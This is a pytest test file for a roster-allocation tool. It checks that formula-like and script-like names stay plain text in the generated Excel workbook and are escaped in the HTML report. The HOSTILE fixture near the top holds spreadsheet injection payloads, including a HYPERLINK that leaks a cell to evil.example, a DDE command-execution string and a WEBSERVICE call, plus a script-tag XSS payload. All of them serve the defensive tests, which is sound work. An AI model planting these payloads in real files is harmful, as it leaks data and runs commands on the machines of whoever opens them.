"""Hostile names in the report: roster.xlsx never holds a formula, report.html never runs a script."""

from __future__ import annotations

import csv
import datetime as dt
import re
import shutil
import zipfile
from typing import TYPE_CHECKING

import pytest
from openpyxl import Workbook, load_workbook

from allocate.domain import Horizon
from allocate.io.load import load_dataset
from allocate.output import write_result
from allocate.report import report_writer
from allocate.report.workbook import put
from allocate.solve import solve

if TYPE_CHECKING:
    from pathlib import Path

HOSTILE = {
    "P1": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "P2": "+cmd|' /C calc'!A0",
    "P3": "-2+3",
    "A1": "@SUM(1,1)",
    "A2": "<script>alert(1)</script>",
}
STATION = "=1+1 Station"
TASK = '=WEBSERVICE("http://evil.example")'
SCRIPT = HOSTILE["A2"]


def _rewrite(path: Path, key: str, column: str, values: dict[str, str]) -> None:
    with path.open(newline="", encoding="utf-8") as handle:
        reader = csv.DictReader(handle)
        fields, rows = list(reader.fieldnames or []), list(reader)
    for row in rows:
        row[column] = values.get(row[key], row[column])
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fields)
        writer.writeheader()
        writer.writerows(rows)


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory, tiny_folder) -> Path:
    """The tiny dataset with formula- and script-like names, solved, report and workbook written."""
    base = tmp_path_factory.mktemp("hostile")
    data = base / "data"
    shutil.copytree(tiny_folder, data)
    _rewrite(data / "staff.csv", "person_id", "name", HOSTILE)
    _rewrite(data / "stations.csv", "station_id", "name", {"T1": STATION})
    _rewrite(data / "tasks.csv", "task_id", "name", {"case": TASK, "patrol": SCRIPT})
    dataset = load_dataset(data)
    result = solve(dataset, Horizon(dt.date(2026, 12, 7), 7), time_limit=10, workers=1, seed=0)
    return write_result(result, base / "out", extra={"report": report_writer(result)})


def _sheet_xml(xlsx: Path) -> dict[str, str]:
    with zipfile.ZipFile(xlsx) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")}


def test_formula_like_names_stay_text_in_the_workbook(hostile_out):
    """Every cell of roster.xlsx is a value, none a formula; the names read back exactly as typed."""
    xlsx = hostile_out / "roster.xlsx"
    wb = load_workbook(xlsx)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for name in [*HOSTILE.values(), STATION, TASK]:
        assert any(name in t for t in texts), name
    grid = wb["T1"]
    names = {grid.cell(row=r, column=1).value: grid.cell(row=r, column=2).value for r in range(3, 10)}
    assert {pid: names[pid] for pid in HOSTILE} == HOSTILE
    for part, xml in _sheet_xml(xlsx).items():
        assert not re.search(r"<f[ >/]", xml), part


def test_script_names_are_escaped_in_the_page(hostile_out):
    """A `<script>` name is shown as text: escaped, and the page keeps only its own script."""
    page = (hostile_out / "report.html").read_text(encoding="utf-8")
    assert SCRIPT not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert page.count("<script") == 1


@pytest.mark.parametrize(
    "text", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1", "=", "plain", "3", "line\nbreak"]
)
def test_put_writes_every_string_as_a_string(tmp_path, text):
    """`put` keeps strings with a formula's first character (tab and CR included) as strings."""
    wb = Workbook()
    put(wb.active, 1, 1, text)
    put(wb.active, 1, 2, 7)
    path = tmp_path / "t.xlsx"
    wb.save(path)
    cell = load_workbook(path).active["A1"]
    assert cell.data_type == "s"
    assert cell.value == text.replace("\r", "\n")  # XML reads a bare CR back as LF: text all the same
    assert load_workbook(path).active["B1"].value == 7
    assert not re.search(r"<f[ >/]", _sheet_xml(path)["xl/worksheets/sheet1.xml"])


def test_put_replaces_characters_xml_cannot_hold(tmp_path):
    """A control character the file format cannot store becomes U+FFFD instead of a crash."""
    wb = Workbook()
    put(wb.active, 1, 1, "A\x01B")
    path = tmp_path / "t.xlsx"
    wb.save(path)
    assert load_workbook(path).active["A1"].value == "A\ufffdB"
